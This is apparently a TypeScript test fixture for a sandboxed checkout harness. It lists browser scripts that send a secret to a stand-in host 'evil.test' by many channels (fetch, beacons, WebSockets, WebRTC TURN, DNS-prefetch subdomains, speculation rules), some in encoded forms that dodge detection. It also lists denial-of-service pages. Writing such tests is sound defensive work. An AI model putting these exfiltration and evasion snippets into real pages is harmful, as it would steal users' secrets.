import type { LaunchLoss } from '../../../harness/checkout/launched.ts';

/** A script of a checkout that is hostile. */
export interface HostilePage {
  readonly name: string;
  /** What it does: statements of an async function with `sent`, a secret in some form; `evil`, addresses of a host that is not allowed; `own`, its own origin; `callback`. */
  readonly does: string;
  /** When: while the script loads, or by the click. Default: by the click. */
  readonly when?: 'load';
  /** The form of the secret. */
  readonly form: keyof typeof forms;
  /** Whether the secret must be found on its way to that host. */
  readonly isFound?: boolean;
  /** What may become of the launch. Default: it ends as any other. */
  readonly lost?: readonly (LaunchLoss | undefined)[];
  /** Whether `npm run test:all` runs it as well. */
  readonly short?: boolean;
}

const each = (of: string): string => `Array.from(secret, (one) => ${of}).join('')`;

/** Forms of a secret, each an expression of JavaScript. */
export const forms = {
  plain: 'secret',
  percent: each("'%' + one.charCodeAt(0).toString(16).padStart(2, '0')"),
  base64: 'btoa(secret)',
  'base64 behind another letter': "btoa('x' + secret)",
  hex: each("one.charCodeAt(0).toString(16).padStart(2, '0')"),
  reversed: 'Array.from(secret).toReversed().join("")',
  'other case': 'secret.toUpperCase()',
  'escapes of JavaScript': each(String.raw`'\\u' + one.charCodeAt(0).toString(16).padStart(4, '0')`),
  'entities of HTML': each("'&#' + one.charCodeAt(0) + ';'"),
} as const;

type Form = keyof typeof forms;
const ofAddresses: readonly Form[] = [
  'plain',
  'percent',
  'base64',
  'base64 behind another letter',
  'hex',
  'reversed',
  'other case',
];
const ofBodies: readonly Form[] = [...ofAddresses, 'escapes of JavaScript', 'entities of HTML'];

const element = (name: string, set: string): string =>
  `document.body.append(Object.assign(document.createElement('${name}'), { ${set} }));`;
const blob = (script: string): string =>
  `URL.createObjectURL(new Blob([${script}], { type: 'text/javascript' }))`;
const rules = (kind: string): string =>
  `const rules = document.createElement('script'); rules.type = 'speculationrules';
   rules.textContent = JSON.stringify({ ${kind}: [{ source: 'list', urls: [url], eagerness: 'immediate' }] }); document.head.append(rules);`;
const peer = (server: string): string =>
  `const peer = new RTCPeerConnection({ iceServers: [${server}] }); peer.createDataChannel('x');
   await peer.setLocalDescription(await peer.createOffer());`;

/** Ways by an address, which `url` is. */
const byAddress: Readonly<Record<string, string>> = {
  fetch: 'await fetch(url).catch(() => 0);',
  'fetch over TLS': "await fetch(url.replace('http:', 'https:')).catch(() => 0);",
  'an image': 'new Image().src = url;',
  'a script': element('script', 'src: url'),
  'a style sheet': element('link', "rel: 'stylesheet', href: url"),
  'a frame': element('iframe', 'src: url'),
  'a pop-up': 'window.open(url);',
  'a prefetch': element('link', "rel: 'prefetch', href: url"),
  'an EventSource': 'new EventSource(url);',
  'a video': element('video', "src: url, preload: 'auto'"),
  'an embedded object': element('object', 'data: url'),
  'a font': "new FontFace('f', 'url(' + JSON.stringify(url) + ')').load().catch(() => 0);",
  'a redirect of a fetch': 'await fetch(to(url, 302)).catch(() => 0);',
  'a redirect of an image': 'new Image().src = to(url, 301);',
  'a redirect of a frame': element('iframe', 'src: to(url, 302)'),
  'a redirect of a pop-up': 'window.open(to(url, 303));',
  'a WebSocket': "new WebSocket(url.replace('http:', 'ws:'));",
  'a WebSocket over TLS': "new WebSocket(url.replace('http:', 'wss:'));",
  'a WebSocket in a worker': `new Worker(${blob("'new WebSocket(' + JSON.stringify(url.replace('http:', 'ws:')) + ')'")});`,
  'a worker': `new Worker(${blob("'fetch(' + JSON.stringify(url) + ')'")});`,
  'a SharedWorker': `new SharedWorker(${blob("'fetch(' + JSON.stringify(url) + ')'")});`,
  'a service worker': element('iframe', "src: own + '/with-service-worker#' + encodeURIComponent(url)"),
  'a speculative prefetch': rules('prefetch'),
  'a speculative prerendering': rules('prerender'),
  'an import': 'await import(url).catch(() => 0);',
  'a ping':
    "const link = Object.assign(document.createElement('a'), { href: '#x', ping: url }); link.click();",
  'a frame without an address': element(
    'iframe',
    "srcdoc: '<script>fetch(' + JSON.stringify(url) + ')<' + '/script>'",
  ),
  'a refresh of a frame': element(
    'iframe',
    "srcdoc: '<meta http-equiv=refresh content=\"0;url=' + url + '\">'",
  ),
  'a download': "Object.assign(document.createElement('a'), { href: url, download: 'x' }).click();",
};

/** Ways by what a request holds. */
const byBody: Readonly<Record<string, string>> = {
  'a body': "await fetch(url, { method: 'POST', body: sent }).catch(() => 0);",
  'a beacon': 'navigator.sendBeacon(url, sent);',
  'a form': `const form = Object.assign(document.createElement('form'), { method: 'post', action: url, target: 'merchant', enctype: 'text/plain' });
    form.append(Object.assign(document.createElement('input'), { name: 'x', value: sent })); document.body.append(form); form.submit();`,
  'a redirect of a body': "await fetch(to(url, 307), { method: 'POST', body: sent }).catch(() => 0);",
  'a file': `const body = new FormData(); body.append('x', new Blob([sent]));
    const request = new XMLHttpRequest(); request.open('POST', url); request.send(body);`,
};

/** Ways by a name, or past HTTP. What does not begin shows no secret. */
const others: readonly Omit<HostilePage, 'form'>[] = [
  { name: 'a name of a host', does: "new Image().src = 'http://' + sent + '.evil.test/';", isFound: true },
  {
    name: 'a name that is only looked up',
    does: element('link', "rel: 'dns-prefetch', href: 'http://' + sent + '.evil.test/'"),
  },
  { name: 'STUN', does: peer("{ urls: 'stun:' + evil.host }") },
  {
    name: 'TURN over UDP',
    does: peer("{ urls: 'turn:' + evil.host, username: sent, credential: sent }"),
    short: true,
  },
  {
    name: 'TURN over TCP',
    does: peer("{ urls: 'turn:' + evil.host + '?transport=tcp', username: sent, credential: sent }"),
  },
  {
    name: 'another peer',
    does: `${peer('')}
      const far = new RTCPeerConnection(); await far.setRemoteDescription(peer.localDescription);
      await far.setLocalDescription(await far.createAnswer()); await peer.setRemoteDescription(far.localDescription);
      const [address, port] = evil.host.split(':');
      for (const kind of ['udp', 'tcp']) await peer.addIceCandidate({ candidate: 'candidate:1 1 ' + kind + ' 2113937151 ' + address + ' ' + port + ' typ host' + (kind === 'tcp' ? ' tcptype passive' : ''), sdpMid: '0' }).catch(() => 0);`,
  },
  {
    name: 'WebTransport',
    does: "new WebTransport('https://' + evil.host + '/' + sent).ready.catch(() => 0);",
    short: true,
  },
];

const fetchFirst = 'fetch(url).catch(() => 0); await new Promise((done) => setTimeout(done, 300));';

/** Pages that do not end, or tell and load more than any; each sends the secret first. */
const hangs: readonly Omit<HostilePage, 'form'>[] = [
  { name: 'a loop while the script loads', does: 'for (;;);', when: 'load', lost: ['late'] },
  {
    name: 'a loop after the click',
    does: `${fetchFirst} for (;;);`,
    lost: ['late'],
    isFound: true,
    short: true,
  },
  { name: 'a loop in a pop-up', does: "window.open(own + '/loop');", lost: ['late'] },
  { name: 'a loop in a frame', does: element('iframe', "src: own + '/loop'"), lost: ['late'] },
  {
    name: 'a Proxy without an end told to the callback',
    does: `${fetchFirst} callback(new Proxy({}, { ownKeys() { for (;;); } }));`,
    lost: ['late'],
    isFound: true,
  },
  {
    name: 'two million entries told to the callback',
    does: `${fetchFirst} callback(Array.from({ length: 2e6 }, (_, index) => 'entry ' + index));`,
    lost: ['too much'],
    isFound: true,
    short: true,
  },
  {
    name: '100,000 levels told to the callback',
    does: `${fetchFirst} let deep = {}; for (let level = 0; level < 1e5; level += 1) deep = { deep }; callback(deep);`,
    lost: ['too much'],
    isFound: true,
  },
  {
    name: '3,000 frames',
    does: `for (let count = 0; count < 3000; count += 1) document.body.append(document.createElement('iframe')); await new Promise(() => 0);`,
    lost: [undefined, 'late', 'unreadable'],
  },
  {
    name: 'a million elements',
    does: `const all = document.createElement('div'); for (let count = 0; count < 1e6; count += 1) all.append(document.createElement('b'));
      document.body.append(all); await new Promise(() => 0);`,
    lost: [undefined, 'late', 'unreadable'],
  },
  { name: 'a script without an end', does: 'endless', when: 'load' },
  {
    name: 'a reply without an end',
    does: `${fetchFirst} fetch(own + '/endless').then((reply) => reply.text()); await new Promise(() => 0);`,
    lost: ['too much'],
    isFound: true,
    short: true,
  },
  {
    name: 'a reply that unpacks to 50 MB',
    does: `${fetchFirst} fetch(own + '/bomb', { method: 'POST', body: 'x' }); await new Promise(() => 0);`,
    lost: ['too much'],
    isFound: true,
  },
  {
    name: 'the console flooded',
    does: `${fetchFirst} const long = 'x'.repeat(1e6); setInterval(() => console.log(long + Math.random()), 0); await new Promise(() => 0);`,
    isFound: true,
  },
  {
    name: 'downloads without an end',
    does: `${fetchFirst} const all = new Blob([new Uint8Array(2e7)]); const url2 = URL.createObjectURL(all);
      setInterval(() => Object.assign(document.createElement('a'), { href: url2, download: 'x' }).click(), 20); await new Promise(() => 0);`,
    isFound: true,
  },
  {
    name: 'dialogs without an end',
    does: `${fetchFirst} for (;;) alert('x');`,
    lost: ['late'],
    isFound: true,
  },
  {
    name: 'a top navigation to the host',
    does: 'location.href = url; await new Promise(() => 0);',
    lost: ['left', 'unreadable'],
    isFound: true,
  },
  {
    name: 'a top navigation to its own page',
    does: `${fetchFirst} location.href = own + '/blank'; await new Promise(() => 0);`,
    lost: ['left'],
    isFound: true,
    short: true,
  },
];

const rotated = <T>(of: readonly T[], index: number): T => of[index % of.length] as T;
const shortWays = new Set([
  'a redirect of a body',
  'a WebSocket in a worker',
  'a SharedWorker',
  'a redirect of a frame',
]);

/** Ways out of a browser, each with a form of a secret, and pages without an end. */
export const hostilePages: readonly HostilePage[] = [
  ...Object.entries(byAddress).map(([name, does], index) => ({
    name,
    does,
    form: rotated(ofAddresses, index),
    isFound: true,
    short: shortWays.has(name),
    ...(name === 'a download' && { lost: ['left', 'unreadable'] as const }),
  })),
  ...Object.entries(byBody).map(([name, does], index) => ({
    name,
    does,
    form: rotated(ofBodies, index + 3),
    isFound: true,
    short: shortWays.has(name),
  })),
  ...others.map((page) => ({ ...page, form: 'hex' as const })),
  ...hangs.map((page, index) => ({ ...page, form: rotated(ofAddresses, index) })),
];
